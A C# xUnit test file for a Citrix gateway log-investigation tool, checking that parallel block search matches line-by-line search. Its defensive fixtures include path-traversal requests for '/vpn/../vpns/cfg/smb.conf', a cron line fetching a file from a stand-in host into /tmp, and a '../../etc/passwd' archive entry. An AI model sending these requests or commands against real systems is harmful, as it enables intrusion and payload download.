using System;
using System.Collections.Generic;
using System.Formats.Tar;
using System.IO;
using System.IO.Compression;
using System.Linq;
using System.Text;
using System.Threading;
using CitrixOps.Adapters.Archives;
using CitrixOps.Appliances;
using CitrixOps.Appliances.Sources;
using CitrixOps.Investigation;
using CitrixOps.Logs;
using CitrixOps.Logs.Reading;
using CitrixOps.SampleCases;
using Newtonsoft.Json;
using Xunit;

namespace CitrixOps.Tests.Investigation.Scanning;

/// <summary>The search by blocks and on many threads says exactly what the search line by line says, whatever the blocks and threads.</summary>
public sealed class BlockSearchTests : IDisposable
{
    private static readonly int[] BlockLengths = [64, 100, 257, 1000, 4096, 1 << 18];

    private static readonly DateTimeOffset Before = new(2019, 12, 1, 0, 0, 0, TimeSpan.Zero);

    private readonly TemporaryFolder _folder = new();

    // further rounds as of the oracle of rules (CONTRIBUTING.md)
    private static readonly int Rounds = int.TryParse(Environment.GetEnvironmentVariable("CITRIXOPS_ORACLE_ROUNDS"), out var wanted) ? wanted : 1;

    public static TheoryData<string> Types => new(LogTypes.All);

    public void Dispose() => _folder.Dispose();

    [Theory]
    [MemberData(nameof(Types))]
    public void Random_logs_of_every_kind_give_the_same(string logType)
    {
        var findings = 0L;
        for (var seed = 0; seed < 12; seed++)
        {
            var random = new Random(seed);
            var path = _folder.File(logType + seed + ".txt", HostileLogs.Of(logType, 30 + random.Next(400), random));
            File.SetLastWriteTimeUtc(path, new DateTime(2020, 6, 1).AddDays(random.Next(400)));
            findings += Same(new InvestigationOptions { LogType = logType, TimeZone = seed % 3 == 0 ? null : seed % 3 == 1 ? "Europe/Amsterdam" : "America/New_York" }, random, path);
        }

        // no rule of these logs is content with a line
        Assert.True(findings > 0 || logType == LogTypes.Auth || LogTypes.IsFirewall(logType));
    }

    [Fact]
    public void Sessions_written_in_every_way_give_the_same()
    {
        var findings = 0L;
        for (var seed = 0; seed < 20 * Rounds; seed++)
        {
            var random = new Random(100 + seed);
            var options = new InvestigationOptions { Since = seed % 4 == 0 ? null : Before, TimeZone = "UTC" };
            findings += Same(options, random, _folder.File("ns.log", OddSessionLogs.Of(600, random)));
        }

        Assert.True(findings > 100);
    }

    [Fact]
    public void Of_lines_outside_the_window_only_the_times_count()
    {
        // an attack every hundredth minute, two of them without a time of their own
        var start = new DateTimeOffset(2020, 1, 10, 0, 0, 0, TimeSpan.Zero);
        static string Line(DateTimeOffset time, string request) => FormattableString.Invariant($"203.0.113.9 - - [{time:dd/MMM/yyyy:HH:mm:ss} +0000] \"GET {request} HTTP/1.1\" 200 1 \"-\" \"-\"\n");
        var log = new StringBuilder();
        for (var i = 0; i < 30_000; i++)
        {
            log.Append(Line(start.AddMinutes(i), i % 100 == 0 ? "/vpn/../vpns/cfg/smb.conf" : "/vpn/index.html"));
            log.Append(i is 9_998 or 20_003 ? "x \"GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\" 200\n" : "");
        }

        var path = _folder.File("httpaccess.log", log.ToString());
        var options = new InvestigationOptions { Since = start.AddMinutes(10_000), Until = start.AddMinutes(20_000) };
        Same(options, new Random(1), [1000, 1 << 18], path);
        var result = Shipped.Search(new Problems(), options, path).Single();

        Assert.Equal(100, result.Findings.Count(f => f.LineNumber > 0 && f.IndicatorId == result.Findings[0].IndicatorId));
        Assert.All(result.Findings, f => Assert.InRange(f.Time!.Value, options.Since.Value, options.Until.Value));
        Assert.Equal(20_000, result.Excluded.Single(e => e.Reason.StartsWith("lines outside the window", StringComparison.Ordinal)).Count);
        var coverage = Assert.Single(result.Coverage);
        Assert.Equal((start, start.AddMinutes(29_999), 30_002), (coverage.First!.Value, coverage.Last!.Value, coverage.Lines));
        Assert.Equal(CoverageAnswer.True, coverage.Covers);
    }

    [Fact]
    public void Many_files_of_many_kinds_plain_and_compressed_give_the_same()
    {
        var random = new Random(7);
        foreach (var logType in LogTypes.All)
        {
            var stem = LogFormats.ByType(logType)!.Stems[0];
            for (var i = 0; i < 4; i++)
            {
                var content = HostileLogs.Of(logType, random.Next(200), random);
                _folder.File("logs/" + stem + "." + i + (i % 2 == 0 ? ".gz" : ""), i % 2 == 0 ? BundleBuilder.Gzip(content) : content);
            }

            _folder.File("logs/export-" + logType, HostileLogs.Of(logType, 100, random));
        }

        _folder.File("logs/empty.log", "");
        _folder.File("logs/picture.bin", Enumerable.Range(0, 5000).Select(i => (byte)(i * 7)).ToArray());
        _folder.File("logs/httpaccess.log.9.gz", BundleBuilder.Gzip(HostileLogs.Of(LogTypes.HttpAccess, 400, random))[..^200]);
        Assert.NotEqual(0, Same(new InvestigationOptions { Since = Before }, random, Path.Combine(_folder.Path, "logs")));
    }

    [Theory]
    [InlineData(CaseKind.Attempted)]
    [InlineData(CaseKind.Compromised)]
    public void Bundles_packed_and_unpacked_of_several_gateways_give_the_same(CaseKind kind)
    {
        var random = new Random(3);
        var options = new CaseOptions { Kind = kind, RequestsPerDay = 20, SessionUsers = kind == CaseKind.Compromised ? 10 : 0 };
        var one = GatewayCase.Build(options).WriteTarGz(_folder.Path, options.RootName);
        var other = options with { HostName = "gw-two", Nsip = "192.0.2.30", Peer = null, Kind = CaseKind.Attempted };
        var two = GatewayCase.Build(other).WriteTarGz(_folder.Path, other.RootName);
        var folder = GatewayCase.Build(options with { HostName = "gw-three", Nsip = "192.0.2.40", Peer = null }).WriteFolder(Path.Combine(_folder.Path, "f"));
        var zip = Path.Combine(_folder.Path, "z.zip");
        ZipFile.CreateFromDirectory(folder, zip);
        Assert.NotEqual(0, Same(new InvestigationOptions { Since = Before }, random, [4096, 1 << 18], one, two, folder, zip));
    }

    [Theory]
    [InlineData("as collectors write it")]
    [InlineData("configuration behind the logs")]
    [InlineData("running configuration last")]
    [InlineData("configuration twice")]
    [InlineData("cut")]
    [InlineData("unsafe name")]
    [InlineData("many findings")]
    public void One_bundle_gives_the_same_whatever_stands_where_in_it(string how)
    {
        var options = new CaseOptions { Kind = CaseKind.Compromised, RequestsPerDay = 20, Peer = null };
        var files = GatewayCase.Build(options).Files.Select(f => (f.Path, f.Content)).ToList();
        var other = Encoding.ASCII.GetBytes("#NS13.1 Build 12.5\nset ns config -IPAddress 192.0.2.99 -netmask 255.255.255.0\nset ns hostName gw-late\nset ns param -timezone \"GMT+02:00-CEST-Europe/Amsterdam\"\n");
        var attack = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Range(0, 25_000).Select(i => FormattableString.Invariant($"203.0.113.9 - - [12/Jan/2020:03:{i / 60 % 60:00}:{i % 60:00} +0100] \"GET /vpn/../vpns/cfg/smb.conf?{i} HTTP/1.1\" 200 1 \"-\" \"-\"\n"))));
        files = how switch
        {
            "configuration behind the logs" => [.. files.OrderBy(f => f.Path.StartsWith("var/", StringComparison.Ordinal) ? 0 : 1)],
            "running configuration last" => [.. files, ("shell/ns_running_config.conf", other)],
            "configuration twice" => [.. files, ("nsconfig/ns.conf", other)],
            "unsafe name" => [.. files, ("../../etc/passwd", other)],
            "many findings" => [.. files, ("var/log/httpaccess.log.9", attack)],
            _ => files,
        };
        var path = WriteTar(files, options);
        if (how == "cut")
        {
            using var file = File.OpenWrite(path);
            file.SetLength(file.Length - 500);
        }

        Assert.NotEqual(0, Same(new InvestigationOptions { Since = Before }, new Random(2), [1 << 18, 5000], path));
    }

    [Fact]
    public void One_bundle_is_decompressed_once()
    {
        var options = new CaseOptions { Kind = CaseKind.Attempted, RequestsPerDay = 50, Peer = null };
        var path = GatewayCase.Build(options).WriteTarGz(_folder.Path, options.RootName);
        var reader = new CountingReader();
        var problems = new Problems();
        var sources = new ApplianceSources(reader, new ReadLimits()).Open([path], problems, CancellationToken.None);

        var result = new Investigator(Shipped.Rules, Shipped.Catalogue, new InvestigationOptions { Since = Before }, DateTimeOffset.UnixEpoch.AddYears(60)).Search(sources, keepFindings: true, problems, CancellationToken.None).Single();

        Assert.Equal(result.Findings.Select(f => f.Id), problems.Findings.Select(f => f.Id));
        Assert.InRange(reader.Bytes, reader.Longest, reader.Longest * 3 / 2);
    }

    [Theory]
    [InlineData(0, "\n")]
    [InlineData(0, "\r\n")]
    [InlineData(1, "\r\n")]
    [InlineData(2, "\n")]
    [InlineData(1_500_000, "\n")]
    public void Lines_around_the_greatest_length_give_the_same(int more, string end)
    {
        const string Line = "Jan 12 03:14:07 <cron.info> gw1 /usr/sbin/cron[4242]: (root) CMD (/usr/bin/fetch -q -o /tmp/x http://192.0.2.1/x)";
        var length = LogLineReader.LongestLine + more;
        var text = Line + end + Line + new string('x', length - Line.Length) + end + "y" + new string(' ', length - 1) + Line + end + Line + end + Line;
        int[] blocks = more == 0 ? [1 << 14, 1 << 18] : [1 << 18];
        Assert.NotEqual(0, Same(new InvestigationOptions { Since = Before }, new Random(more), blocks, _folder.File("cron", text)));
        if (more > 1)
        {
            File.Delete(Path.Combine(_folder.Path, "cron"));
            Same(new InvestigationOptions { Since = Before }, new Random(more), blocks, _folder.File("cron.0.gz", BundleBuilder.Gzip(Encoding.Latin1.GetBytes(text))));
        }
    }

    [Fact]
    public void Matches_that_wait_for_the_first_time_give_the_same_few_or_many()
    {
        const string Line = "sh: /tmp/.init/httpd: Permission denied";
        foreach (var count in new[] { 1, 999, 1000, 1001, 2500 })
        {
            var head = string.Concat(Enumerable.Range(0, count).Select(i => Line + " " + i + "\n"));
            foreach (var tail in new[] { "", "[Wed Jan 15 15:09:05 2020] [error] x\n" + Line + "\n" })
            {
                Assert.True(Same(new InvestigationOptions { LogType = LogTypes.HttpError, Since = Before }, new Random(count), [1000, 1 << 18], _folder.File("httperror.log", head + tail)) >= count);
            }
        }
    }

    [Fact]
    public void An_order_of_day_and_month_told_late_holds_for_what_follows()
    {
        // the first numeric date that tells the order lies behind what is looked at beforehand
        static string Line(int first, int second, int at) => FormattableString.Invariant($" {first:00}/{second:00}/2020:10:00:{at % 60:00}  HA1 0-PPE-0 : default AAA Message {at} 0 :  Authentication is rejected for fefypa:1 (client ip : 192.0.2.77)\n");
        var text = new StringBuilder();
        for (var i = 0; text.Length < (1 << 20) + 50_000; i++)
        {
            text.Append(Line(2, 3, i));
        }

        text.Append(Line(20, 3, 1));
        for (var i = 0; i < 2000; i++)
        {
            text.Append(Line(4, 5, i));
        }

        text.Append(Line(3, 20, 1)).Append(Line(4, 5, 1));
        Assert.True(Same(new InvestigationOptions { LogType = LogTypes.NsLog, Since = Before }, new Random(5), [4096, 1 << 16, 1 << 18], _folder.File("ns.log", text.ToString())) > 2000);
    }

    private string WriteTar(IEnumerable<(string Path, byte[] Content)> files, CaseOptions options)
    {
        var path = Path.Combine(_folder.Path, options.RootName + ".tar.gz");
        using var file = File.Create(path);
        using var gzip = new GZipStream(file, CompressionLevel.Fastest);
        using var tar = new TarWriter(gzip, TarEntryFormat.Ustar);
        var time = options.CollectedAt;
        foreach (var (name, content) in files)
        {
            // of two configurations of one kind the newer counts
            time = time.AddSeconds(1);
            tar.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, name.StartsWith("..", StringComparison.Ordinal) ? name : options.RootName + "/" + name) { DataStream = new MemoryStream(content), ModificationTime = time });
        }

        return path;
    }

    private long Same(InvestigationOptions options, Random random, params string[] paths) =>
        Same(options, random, [.. BlockLengths.Where(_ => random.Next(2) == 0), 128], paths);

    private static long Same(InvestigationOptions options, Random random, int[] blockLengths, params string[] paths)
    {
        var since = options.Since ?? (random.Next(3) == 0 ? (DateTimeOffset?)null : new DateTimeOffset(2020, random.Next(1, 7), 1, 0, 0, 0, TimeSpan.Zero));
        InvestigationOptions With(bool lineByLine, int threads, int blockLength) => new()
        {
            LogType = options.LogType, TimeZone = options.TimeZone, Since = since, Until = options.Until ?? since?.AddMonths(options.Since is null ? 8 : 1000), LineByLine = lineByLine, Threads = threads, BlockLength = blockLength,
        };

        var expected = Run(With(lineByLine: true, 1, 1 << 18), paths);
        foreach (var blockLength in blockLengths)
        {
            var threads = 1 + random.Next(4);
            Assert.Equal(expected.Text, Run(With(lineByLine: false, threads, blockLength), paths).Text);
        }

        return expected.Findings;
    }

    // everything that comes out, in its order
    private static (string Text, long Findings) Run(InvestigationOptions options, string[] paths)
    {
        var problems = new Problems();
        var results = Shipped.Search(problems, options, paths);
        foreach (var result in results)
        {
            result.Elapsed = default;
        }

        return (JsonConvert.SerializeObject(new { results, problems.Reported, Found = problems.Findings.Select(f => f.ToString()) }, Formatting.Indented), problems.Findings.Count);
    }

    /// <summary>Counts what is read of archives: in all, and in the longest pass.</summary>
    private sealed class CountingReader : IArchiveReader
    {
        public long Bytes { get; private set; }

        public long Longest { get; private set; }

        public IEnumerable<ArchiveEntry> ReadTar(Stream stream)
        {
            var pass = 0L;
            return new ArchiveReader().ReadTar(new Counted(stream, n =>
            {
                Bytes += n;
                pass += n;
                Longest = Math.Max(Longest, pass);
            }));
        }

        private sealed class Counted(Stream source, Action<int> count) : ForwardStream
        {
            public override int Read(byte[] buffer, int offset, int length)
            {
                var read = source.Read(buffer, offset, length);
                count(read);
                return read;
            }
        }
    }
}
